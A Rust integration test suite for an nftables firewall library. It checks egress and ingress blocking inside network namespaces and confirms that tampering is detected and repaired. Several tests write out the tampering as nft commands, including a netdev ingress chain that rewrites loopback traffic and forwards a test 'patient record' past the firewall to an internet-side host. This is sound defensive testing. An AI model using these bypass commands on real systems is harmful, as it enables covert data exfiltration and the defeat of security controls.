//! Real traffic through the real kernel: each test builds its own namespaces (see
//! `support`), applies the policy inside the "box" namespace with the library's own
//! `Firewall::apply`, and probes with TCP, UDP and ICMP sockets.
//!
//! Every blocked probe is first shown to succeed before the firewall is applied, so a probe
//! that fails afterwards fails because of the firewall, not because the lab is broken.
//!
//! Needs root, `ip` (iproute2) and `nft` (nftables); fails with a clear message otherwise.

mod support;

use serde_json::Value;
use support::addr::*;
use support::{Catcher, Lab, Netns, Probe, mismatches};
use wardbox_firewall::{
    ApplyOutcome, CounterHistory, Drift, Effect, Firewall, Nft, Policy, Ruleset, Status,
};

const POLICY: &str = r#"
clinic_lan = ["192.0.2.0/24", "2001:db8:1::/64"]
dns_resolvers = ["192.0.2.2"]

[[allow_out]]
name = "siem"
dest = "203.0.113.2"
protocol = "tcp"
port = 6514

[[allow_out]]
name = "siem-v6"
dest = "2001:db8:3::2"
protocol = "tcp"
port = 6514

[[allow_out]]
name = "ntp"
dest = "203.0.113.2"
protocol = "udp"
port = 123
"#;

fn firewall(policy_toml: &str) -> Firewall {
    let policy: Policy = toml::from_str(policy_toml).expect("test policy parses");
    let valid = policy.validate().expect("test policy is valid");
    Firewall::new(
        Nft::new(support::NFT).expect("nft present"),
        Ruleset::build(&valid),
    )
}

fn apply_in(ns: &Netns, fw: &Firewall) -> ApplyOutcome {
    ns.run(|| fw.apply())
        .unwrap_or_else(|e| panic!("apply in {}: {e}", ns.name))
}

fn status_in(ns: &Netns, fw: &Firewall) -> Status {
    ns.run(|| fw.status())
        .unwrap_or_else(|e| panic!("status in {}: {e}", ns.name))
}

#[track_caller]
fn assert_all(ns: &Netns, probes: &[Probe], answered: bool, when: &str) {
    let wrong = mismatches(ns, probes, answered);
    let verb = if answered {
        "should get through but did not"
    } else {
        "should be blocked but got through"
    };
    assert!(
        wrong.is_empty(),
        "{when}: from {}, these {verb}: {wrong:?}",
        ns.name
    );
}

/// The box talking to anything that is not on its allow-list: the internet side, and LAN
/// hosts on non-allowed ports. DNS included.
const EGRESS_ATTEMPTS: &[Probe] = &[
    ("tcp to internet 198.51.100.2:80", || {
        support::tcp_reaches(sock(EXT4, 80))
    }),
    ("udp to internet 198.51.100.2:9999", || {
        support::udp_reaches(sock(EXT4, 9999))
    }),
    ("dns (udp 53) to non-allowed resolver 198.51.100.2", || {
        support::udp_reaches(sock(EXT4, 53))
    }),
    ("icmp echo to internet 198.51.100.2", || {
        support::ping(ip(EXT4))
    }),
    ("tcp over ipv6 to internet [2001:db8:2::2]:80", || {
        support::tcp_reaches(sock(EXT6, 80))
    }),
    ("icmpv6 echo to internet 2001:db8:2::2", || {
        support::ping(ip(EXT6))
    }),
    ("tcp to internet on the siem port 198.51.100.2:6514", || {
        support::tcp_reaches(sock(EXT4, 6514))
    }),
    ("tcp to a lan host 192.0.2.2:80", || {
        support::tcp_reaches(sock(LAN4, 80))
    }),
    ("icmp echo to a lan host 192.0.2.2", || {
        support::ping(ip(LAN4))
    }),
];

#[test]
fn netns_outbound_tcp_udp_icmp_ipv6_and_dns_are_dropped() {
    let lab = Lab::new();
    let fw = firewall(POLICY);
    assert_all(
        &lab.boxns,
        EGRESS_ATTEMPTS,
        true,
        "before the firewall (lab check)",
    );

    let outcome = apply_in(&lab.boxns, &fw);
    assert_eq!(
        outcome,
        ApplyOutcome::Applied {
            repaired: vec![Drift::TableMissing]
        }
    );

    assert_all(&lab.boxns, EGRESS_ATTEMPTS, false, "with the firewall");
    // The allowed resolver still answers: the box is not simply cut off.
    assert_all(
        &lab.boxns,
        &[("dns (udp 53) to the allowed resolver 192.0.2.2", || {
            support::udp_reaches(sock(LAN4, 53))
        })],
        true,
        "with the firewall",
    );
    let status = status_in(&lab.boxns, &fw);
    assert!(status.is_enforced(), "{:?}", status.drift);
    assert!(
        status.counters.blocked_out.packets >= EGRESS_ATTEMPTS.len() as u64,
        "every dropped attempt is counted: {:?}",
        status.counters
    );
}

#[test]
fn netns_internal_destination_is_reachable_on_its_port_only() {
    let lab = Lab::new();
    let fw = firewall(POLICY);
    let allowed: &[Probe] = &[
        ("siem tcp 203.0.113.2:6514", || {
            support::tcp_reaches(sock(SRV4, 6514))
        }),
        ("siem tcp [2001:db8:3::2]:6514", || {
            support::tcp_reaches(sock(SRV6, 6514))
        }),
        ("ntp udp 203.0.113.2:123", || {
            support::udp_reaches(sock(SRV4, 123))
        }),
    ];
    let others: &[Probe] = &[
        ("tcp 203.0.113.2:6515 (next port)", || {
            support::tcp_reaches(sock(SRV4, 6515))
        }),
        ("udp 203.0.113.2:124 (next port)", || {
            support::udp_reaches(sock(SRV4, 124))
        }),
        (
            "udp [2001:db8:3::2]:123 (ntp is allowed on ipv4 only)",
            || support::udp_reaches(sock(SRV6, 123)),
        ),
        ("tcp 203.0.113.2:6514 is tcp; udp 6514 is not", || {
            support::udp_reaches(sock(SRV4, 6514))
        }),
        ("icmp echo 203.0.113.2", || support::ping(ip(SRV4))),
    ];
    assert_all(&lab.boxns, allowed, true, "before the firewall (lab check)");
    // udp 6514 has no server, so it cannot serve as a lab check; the others can.
    assert_all(
        &lab.boxns,
        &[others[0], others[1], others[2], others[4]],
        true,
        "before the firewall (lab check)",
    );

    apply_in(&lab.boxns, &fw);
    assert_all(&lab.boxns, allowed, true, "with the firewall");
    assert_all(&lab.boxns, others, false, "with the firewall");
}

#[test]
fn netns_clinic_lan_reaches_443_and_other_peers_do_not() {
    let lab = Lab::new();
    // SSH open to one admin host, over IPv4 only.
    let fw = firewall(&format!("admin_ssh = [\"{LAN4}/32\"]\n{POLICY}"));
    let lan_allowed: &[Probe] = &[
        ("lan -> box 192.0.2.1:443", || {
            support::tcp_reaches(sock(BOX_LAN4, 443))
        }),
        ("lan -> box [2001:db8:1::1]:443", || {
            support::tcp_reaches(sock(BOX_LAN6, 443))
        }),
        ("admin 192.0.2.2 -> box 192.0.2.1:22", || {
            support::tcp_reaches(sock(BOX_LAN4, 22))
        }),
    ];
    let lan_refused: &[Probe] = &[
        ("lan -> box 192.0.2.1:8080 (engine port)", || {
            support::tcp_reaches(sock(BOX_LAN4, 8080))
        }),
        (
            "lan -> box [2001:db8:1::1]:22 (ssh allowed on ipv4 only)",
            || support::tcp_reaches(sock(BOX_LAN6, 22)),
        ),
        ("lan -> box icmp echo", || support::ping(ip(BOX_LAN4))),
    ];
    let ext_refused: &[Probe] = &[
        ("internet -> box 198.51.100.1:443", || {
            support::tcp_reaches(sock(BOX_EXT4, 443))
        }),
        ("internet -> box [2001:db8:2::1]:443", || {
            support::tcp_reaches(sock(BOX_EXT6, 443))
        }),
        ("internet -> box 198.51.100.1:22", || {
            support::tcp_reaches(sock(BOX_EXT4, 22))
        }),
        ("internet -> box icmpv6 echo", || {
            support::ping(ip(BOX_EXT6))
        }),
    ];
    let srv_refused: &[Probe] = &[("server net -> box 203.0.113.1:443", || {
        support::tcp_reaches(sock(BOX_SRV4, 443))
    })];
    for (ns, probes) in [
        (&lab.lan, lan_allowed),
        (&lab.lan, lan_refused),
        (&lab.ext, ext_refused),
        (&lab.srv, srv_refused),
    ] {
        assert_all(ns, probes, true, "before the firewall (lab check)");
    }

    apply_in(&lab.boxns, &fw);
    assert_all(&lab.lan, lan_allowed, true, "with the firewall");
    assert_all(&lab.lan, lan_refused, false, "with the firewall");
    assert_all(&lab.ext, ext_refused, false, "with the firewall");
    assert_all(&lab.srv, srv_refused, false, "with the firewall");
    let counters = status_in(&lab.boxns, &fw).counters;
    assert!(
        counters.blocked_in.packets > 0,
        "blocked inbound attempts are counted: {counters:?}"
    );
}

const LEAK: &[Probe] = &[("tcp to internet 198.51.100.2:80", || {
    support::tcp_reaches(sock(EXT4, 80))
})];
const SIEM: &[Probe] = &[("siem tcp 203.0.113.2:6514", || {
    support::tcp_reaches(sock(SRV4, 6514))
})];
const UI: &[Probe] = &[("lan -> box 192.0.2.1:443", || {
    support::tcp_reaches(sock(BOX_LAN4, 443))
})];

/// The handle of our rule with this comment, from the live ruleset.
fn handle_of(ns: &Netns, comment: &str) -> String {
    let listed: Value = serde_json::from_str(&ns.nft(&["-j", "list", "table", "inet", "wardbox"]))
        .expect("nft JSON");
    listed["nftables"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|o| o.pointer("/rule/comment").and_then(Value::as_str) == Some(comment))
        .and_then(|o| o.pointer("/rule/handle"))
        .map(|h| h.to_string())
        .unwrap_or_else(|| panic!("no rule with comment {comment}"))
}

#[track_caller]
fn assert_repaired(lab: &Lab, fw: &Firewall, expected: &[Drift]) {
    let status = status_in(&lab.boxns, fw);
    assert_eq!(status.drift, expected, "verify names the drift");
    match apply_in(&lab.boxns, fw) {
        ApplyOutcome::Applied { repaired } => assert_eq!(repaired, expected),
        ApplyOutcome::Unchanged => panic!("drift {expected:?} was not repaired"),
    }
    assert_eq!(
        apply_in(&lab.boxns, fw),
        ApplyOutcome::Unchanged,
        "repair is complete"
    );
}

#[test]
fn netns_drift_inserted_accept_and_deleted_rule_are_detected_and_repaired() {
    let lab = Lab::new();
    let fw = firewall(POLICY);
    apply_in(&lab.boxns, &fw);
    assert_all(&lab.boxns, LEAK, false, "with the firewall");

    // Someone inserts `accept` at the top of output: data can leave.
    lab.boxns
        .nft(&["insert", "rule", "inet", "wardbox", "output", "accept"]);
    assert_all(
        &lab.boxns,
        LEAK,
        true,
        "after an accept rule was inserted (the leak is real)",
    );
    let handle: u64 = handle_of_uncommented(&lab.boxns);
    assert_repaired(
        &lab,
        &fw,
        &[Drift::RuleUnexpected {
            chain: "output".into(),
            handle,
            comment: None,
        }],
    );
    assert_all(&lab.boxns, LEAK, false, "after repair");

    // Someone deletes the SIEM allow rule: audit logs stop reaching the SIEM.
    let handle = handle_of(&lab.boxns, "wardbox:output:allow siem");
    lab.boxns.nft(&[
        "delete", "rule", "inet", "wardbox", "output", "handle", &handle,
    ]);
    assert_all(&lab.boxns, SIEM, false, "after the siem rule was deleted");
    assert_repaired(
        &lab,
        &fw,
        &[Drift::RuleMissing {
            chain: "output".into(),
            rule: "wardbox:output:allow siem".into(),
        }],
    );
    assert_all(&lab.boxns, SIEM, true, "after repair");
}

fn handle_of_uncommented(ns: &Netns) -> u64 {
    let listed: Value = serde_json::from_str(&ns.nft(&["-j", "list", "table", "inet", "wardbox"]))
        .expect("nft JSON");
    listed["nftables"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|o| o.get("rule"))
        .find(|r| r.get("comment").is_none())
        .and_then(|r| r["handle"].as_u64())
        .expect("the inserted rule")
}

#[test]
fn netns_drift_flushed_and_deleted_table_and_policy_change_are_repaired() {
    let lab = Lab::new();
    let fw = firewall(POLICY);
    apply_in(&lab.boxns, &fw);

    // Flushed: the chains still drop everything, so the clinic loses the UI.
    lab.boxns.nft(&["flush", "table", "inet", "wardbox"]);
    assert_all(&lab.lan, UI, false, "after the table was flushed");
    assert_repaired(&lab, &fw, &[Drift::TableFlushed]);
    assert_all(&lab.lan, UI, true, "after repair");

    // Deleted: nothing is enforced any more.
    lab.boxns.nft(&["delete", "table", "inet", "wardbox"]);
    assert_all(
        &lab.boxns,
        LEAK,
        true,
        "after the table was deleted (the leak is real)",
    );
    assert_repaired(&lab, &fw, &[Drift::TableMissing]);
    assert_all(&lab.boxns, LEAK, false, "after repair");

    // Policy turned to accept and the final drop removed: open again.
    lab.boxns
        .nft(&["chain", "inet", "wardbox", "output", "{ policy accept; }"]);
    let handle = handle_of(&lab.boxns, "wardbox:output:drop");
    lab.boxns.nft(&[
        "delete", "rule", "inet", "wardbox", "output", "handle", &handle,
    ]);
    assert_all(
        &lab.boxns,
        LEAK,
        true,
        "after policy accept (the leak is real)",
    );
    assert_repaired(
        &lab,
        &fw,
        &[
            Drift::ChainChanged {
                chain: "output".into(),
                expected: "type filter hook output priority 0 policy drop".into(),
                found: "type filter hook output priority 0 policy accept".into(),
            },
            Drift::RuleMissing {
                chain: "output".into(),
                rule: "wardbox:output:drop".into(),
            },
        ],
    );
    assert_all(&lab.boxns, LEAK, false, "after repair");
}

#[test]
fn netns_drift_rogue_accept_table_is_detected_and_removed() {
    let lab = Lab::new();
    let fw = firewall(POLICY);
    apply_in(&lab.boxns, &fw);

    lab.boxns.nft(&["add", "table", "ip", "rogue"]);
    lab.boxns.nft(&[
        "add",
        "chain",
        "ip",
        "rogue",
        "out",
        "{ type filter hook output priority -10; policy accept; }",
    ]);
    lab.boxns
        .nft(&["add", "rule", "ip", "rogue", "out", "accept"]);
    // A drop in any base chain is final, so our table still holds...
    assert_all(&lab.boxns, LEAK, false, "with a rogue accept table");
    // ...but the rogue table is tampering, reported and removed.
    let handle = rule_handles(&lab.boxns, "ip", "rogue")[0];
    assert_repaired(
        &lab,
        &fw,
        &[
            Drift::ForeignAcceptChain {
                family: "ip".into(),
                table: "rogue".into(),
                chain: "out".into(),
                hook: "output".into(),
            },
            Drift::ForeignRule {
                family: "ip".into(),
                table: "rogue".into(),
                chain: "out".into(),
                handle,
                effect: Effect::Accepts,
                statement: "accept".into(),
            },
        ],
    );
    let listed = lab.boxns.nft(&["list", "tables"]);
    assert_eq!(
        listed.trim(),
        "table inet wardbox",
        "only our table is left"
    );
    assert_all(&lab.boxns, LEAK, false, "after repair");
}

#[test]
fn netns_apply_is_idempotent_and_counters_survive_repair() {
    let lab = Lab::new();
    let fw = firewall(POLICY);
    assert!(matches!(
        apply_in(&lab.boxns, &fw),
        ApplyOutcome::Applied { .. }
    ));
    assert_eq!(apply_in(&lab.boxns, &fw), ApplyOutcome::Unchanged);

    assert_all(&lab.boxns, EGRESS_ATTEMPTS, false, "with the firewall");
    let before = status_in(&lab.boxns, &fw).counters;
    assert!(
        before.blocked_out.packets >= EGRESS_ATTEMPTS.len() as u64,
        "{before:?}"
    );

    // A repair replaces the whole table; the evidence of blocked attempts must survive it.
    let handle = handle_of(&lab.boxns, "wardbox:forward:drop");
    lab.boxns.nft(&[
        "delete", "rule", "inet", "wardbox", "forward", "handle", &handle,
    ]);
    assert!(matches!(
        apply_in(&lab.boxns, &fw),
        ApplyOutcome::Applied { .. }
    ));
    let after = status_in(&lab.boxns, &fw).counters;
    assert!(
        after.blocked_out.packets >= before.blocked_out.packets,
        "{before:?} -> {after:?}"
    );
    assert!(
        after.blocked_out.bytes >= before.blocked_out.bytes,
        "{before:?} -> {after:?}"
    );
}

/// The handles of the rules of a table, in listing order.
fn rule_handles(ns: &Netns, family: &str, table: &str) -> Vec<u64> {
    let listed: Value = serde_json::from_str(&ns.nft(&["-j", "list", "table", family, table]))
        .expect("nft JSON");
    listed["nftables"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|o| o.pointer("/rule/handle").and_then(Value::as_u64))
        .collect()
}

/// The tables left in the namespace, sorted.
fn tables(ns: &Netns) -> Vec<String> {
    let mut tables: Vec<String> = ns
        .nft(&["list", "tables"])
        .lines()
        .map(str::to_owned)
        .collect();
    tables.sort();
    tables
}

/// The port the exfiltration below aims at, on loopback and on the internet side.
const EXFIL_PORT: u16 = 7777;

/// The attack the outside review found: root in the box's network namespace adds a `netdev`
/// table whose ingress chain on `lo` rewrites loopback datagrams and forwards them out of the
/// internet link. Our output chain lets them through (to `lo`, allowed), and they never pass
/// an inet hook again. Verification must name the table, and repair must remove it.
#[test]
fn netns_foreign_netdev_table_forwarding_loopback_out_is_detected_and_removed() {
    let lab = Lab::new();
    let fw = firewall(POLICY);
    apply_in(&lab.boxns, &fw);
    let internet = Catcher::new(&lab.ext, EXFIL_PORT);
    let send = |payload: &'static [u8], to: &'static str| {
        lab.boxns
            .run(move || support::udp_send(sock(to, EXFIL_PORT), payload));
    };
    send(b"direct", EXT4);
    assert!(
        !internet.caught(b"direct"),
        "with the firewall, a datagram straight to the internet is dropped"
    );
    send(b"loopback", "127.0.0.1");
    assert!(
        !internet.caught(b"loopback"),
        "a datagram to loopback stays on the box"
    );

    lab.boxns.nft(&["add", "table", "netdev", "exfil"]);
    lab.boxns.nft(&[
        "add",
        "chain",
        "netdev",
        "exfil",
        "lo_in",
        "{ type filter hook ingress device lo priority 0; policy accept; }",
    ]);
    lab.boxns.nft(&[
        "add", "rule", "netdev", "exfil", "lo_in", "ip", "daddr", "127.0.0.1", "udp", "dport",
        "7777", "ip", "saddr", "set", BOX_EXT4, "ip", "daddr", "set", EXT4, "fwd", "ip", "to",
        EXT4, "device", "ext0",
    ]);
    // The first datagram may be lost while the box resolves the peer's link address.
    send(b"primer", "127.0.0.1");
    let _ = internet.caught(b"primer");
    send(b"patient record", "127.0.0.1");
    assert!(
        internet.caught(b"patient record"),
        "the leak is real: the rewritten datagram reaches the internet side"
    );

    let handle = rule_handles(&lab.boxns, "netdev", "exfil")[0];
    let foreign_rule = |effect, statement: &str| Drift::ForeignRule {
        family: "netdev".into(),
        table: "exfil".into(),
        chain: "lo_in".into(),
        handle,
        effect,
        statement: statement.into(),
    };
    assert_repaired(
        &lab,
        &fw,
        &[
            Drift::ForeignAcceptChain {
                family: "netdev".into(),
                table: "exfil".into(),
                chain: "lo_in".into(),
                hook: "ingress".into(),
            },
            foreign_rule(Effect::Rewrites, "mangle"),
            foreign_rule(Effect::Forwards, "fwd"),
        ],
    );
    assert_eq!(tables(&lab.boxns), ["table inet wardbox"], "the foreign table is gone");
    send(b"patient record again", "127.0.0.1");
    assert!(
        !internet.caught(b"patient record again"),
        "after repair nothing leaves"
    );
}

/// One line per finding without rule handles (which the kernel picks), sorted: what the
/// test below expects.
fn foreign_summary(drift: &[Drift]) -> Vec<String> {
    let mut lines: Vec<String> = drift
        .iter()
        .map(|d| match d {
            Drift::ForeignRule {
                family,
                table,
                chain,
                effect,
                statement,
                ..
            } => format!("{family} {table} {chain}: {effect} ({statement})"),
            Drift::ForeignAcceptChain {
                family,
                table,
                chain,
                hook,
            } => format!("{family} {table} {chain}: hooked on {hook} with policy accept"),
            other => other.to_string(),
        })
        .collect();
    lines.sort();
    lines
}

#[test]
fn netns_foreign_tables_in_every_family_are_detected_and_removed() {
    let lab = Lab::new();
    let fw = firewall(POLICY);
    apply_in(&lab.boxns, &fw);
    let add = |args: &[&str]| {
        lab.boxns.nft(args);
    };
    // NAT: masquerade on the internet link, and a DNAT of a loopback address to the internet.
    add(&["add", "table", "ip", "nat"]);
    add(&[
        "add", "chain", "ip", "nat", "post",
        "{ type nat hook postrouting priority 100; policy accept; }",
    ]);
    add(&["add", "rule", "ip", "nat", "post", "oifname", "ext0", "masquerade"]);
    add(&[
        "add", "chain", "ip", "nat", "out",
        "{ type nat hook output priority -100; policy accept; }",
    ]);
    add(&[
        "add", "rule", "ip", "nat", "out", "ip", "daddr", "127.0.0.2", "tcp", "dport", "80",
        "dnat", "to", EXT4,
    ]);
    // Bridge and ARP: frames that never pass an inet hook.
    add(&["add", "table", "bridge", "br"]);
    add(&[
        "add", "chain", "bridge", "br", "bridged",
        "{ type filter hook forward priority 0; policy accept; }",
    ]);
    add(&["add", "table", "arp", "a"]);
    add(&[
        "add", "chain", "arp", "a", "out",
        "{ type filter hook output priority 0; policy accept; }",
    ]);
    // An inet chain before ours at output that accepts everything.
    add(&["add", "table", "inet", "early"]);
    add(&[
        "add", "chain", "inet", "early", "out",
        "{ type filter hook output priority -200; policy accept; }",
    ]);
    add(&["add", "rule", "inet", "early", "out", "accept"]);
    // Benign, left alone: a drop-only ingress chain on the internal-server link, and a table
    // of counters.
    add(&["add", "table", "netdev", "quiet"]);
    add(&[
        "add", "chain", "netdev", "quiet", "drops",
        "{ type filter hook ingress device srv0 priority 0; policy drop; }",
    ]);
    add(&["add", "rule", "netdev", "quiet", "drops", "counter", "drop"]);
    add(&["add", "table", "inet", "tally"]);
    add(&["add", "counter", "inet", "tally", "seen"]);
    add(&["add", "chain", "inet", "tally", "counting"]);
    add(&["add", "rule", "inet", "tally", "counting", "counter", "name", "seen"]);

    let status = status_in(&lab.boxns, &fw);
    expect_test::expect![[r#"
        [
            "arp a out: hooked on output with policy accept",
            "bridge br bridged: hooked on forward with policy accept",
            "inet early out: accepts packets (accept)",
            "inet early out: hooked on output with policy accept",
            "ip nat out: hooked on output with policy accept",
            "ip nat out: rewrites packets (dnat)",
            "ip nat post: hooked on postrouting with policy accept",
            "ip nat post: rewrites packets (masquerade)",
        ]
    "#]]
    .assert_debug_eq(&foreign_summary(&status.drift));
    match apply_in(&lab.boxns, &fw) {
        ApplyOutcome::Applied { repaired } => assert_eq!(repaired, status.drift),
        ApplyOutcome::Unchanged => panic!("foreign tables were not removed"),
    }
    assert_eq!(apply_in(&lab.boxns, &fw), ApplyOutcome::Unchanged);
    assert_eq!(
        tables(&lab.boxns),
        ["table inet tally", "table inet wardbox", "table netdev quiet"],
        "only the benign foreign tables are left"
    );
    assert_all(&lab.boxns, LEAK, false, "after repair");
    assert_all(&lab.lan, UI, true, "after repair");
}

/// A scratch path for a counter history, unique to this test run.
fn history_path(name: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("wardbox-fw-netns-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir.join("firewall-counters.json")
}

/// Zeroing the drop counters, or deleting the table and adding an identical one, leaves a
/// ruleset that matches the intent exactly: only the counter history shows it.
#[test]
fn netns_counter_reset_is_detected_and_repaired_with_the_evidence() {
    let lab = Lab::new();
    let fw = firewall(POLICY);
    let history = CounterHistory::new(history_path("reset"));
    let recorded_status = || {
        lab.boxns
            .run(|| fw.status_recorded(&history))
            .unwrap_or_else(|e| panic!("status: {e}"))
    };
    let recorded_apply = || {
        lab.boxns
            .run(|| fw.apply_recorded(&history))
            .unwrap_or_else(|e| panic!("apply: {e}"))
    };
    recorded_apply();
    assert_all(&lab.boxns, EGRESS_ATTEMPTS, false, "with the firewall");
    let before = recorded_status();
    assert!(before.is_enforced(), "{:?}", before.drift);
    assert!(before.counters.blocked_out.packets > 0, "{:?}", before.counters);

    lab.boxns.nft(&["reset", "counters", "table", "inet", "wardbox"]);
    assert!(
        status_in(&lab.boxns, &fw).is_enforced(),
        "without the history the reset is invisible"
    );
    let after_reset = recorded_status();
    let reset_out = after_reset.drift.iter().find_map(|d| match d {
        Drift::CounterReset { name, last, now } if name == "blocked_out" => Some((*last, *now)),
        _ => None,
    });
    let (last, now) = reset_out.unwrap_or_else(|| panic!("no reset reported: {:?}", after_reset.drift));
    assert!(last.packets >= before.counters.blocked_out.packets && now.packets < last.packets);
    assert!(
        after_reset
            .drift
            .iter()
            .all(|d| matches!(d, Drift::CounterReset { .. })),
        "{:?}",
        after_reset.drift
    );
    // The reset stays reported until repaired: the history kept the higher reading.
    assert_eq!(recorded_status().drift.len(), after_reset.drift.len());
    match recorded_apply() {
        ApplyOutcome::Applied { repaired } => assert!(
            repaired.iter().any(|d| matches!(d, Drift::CounterReset { .. })),
            "{repaired:?}"
        ),
        ApplyOutcome::Unchanged => panic!("the reset was not repaired"),
    }
    let repaired = recorded_status();
    assert!(repaired.is_enforced(), "{:?}", repaired.drift);
    assert!(
        repaired.counters.blocked_out.packets >= before.counters.blocked_out.packets,
        "the evidence is back: {:?} -> {:?}",
        before.counters,
        repaired.counters
    );

    // The table deleted and the very same table added again, with fresh counters.
    lab.boxns.run(|| fw.remove()).expect("delete our table");
    lab.boxns.run(|| fw.apply()).expect("an identical table, counters at zero");
    assert!(status_in(&lab.boxns, &fw).is_enforced());
    let replaced = recorded_status();
    assert!(
        replaced.drift.iter().any(|d| matches!(
            d,
            Drift::CounterReset { name, last, now }
                if name == "blocked_out"
                    && *last == repaired.counters.blocked_out
                    && now.packets < last.packets
        )),
        "{:?}",
        replaced.drift
    );
    let _ = std::fs::remove_dir_all(history.path().parent().expect("dir"));
}
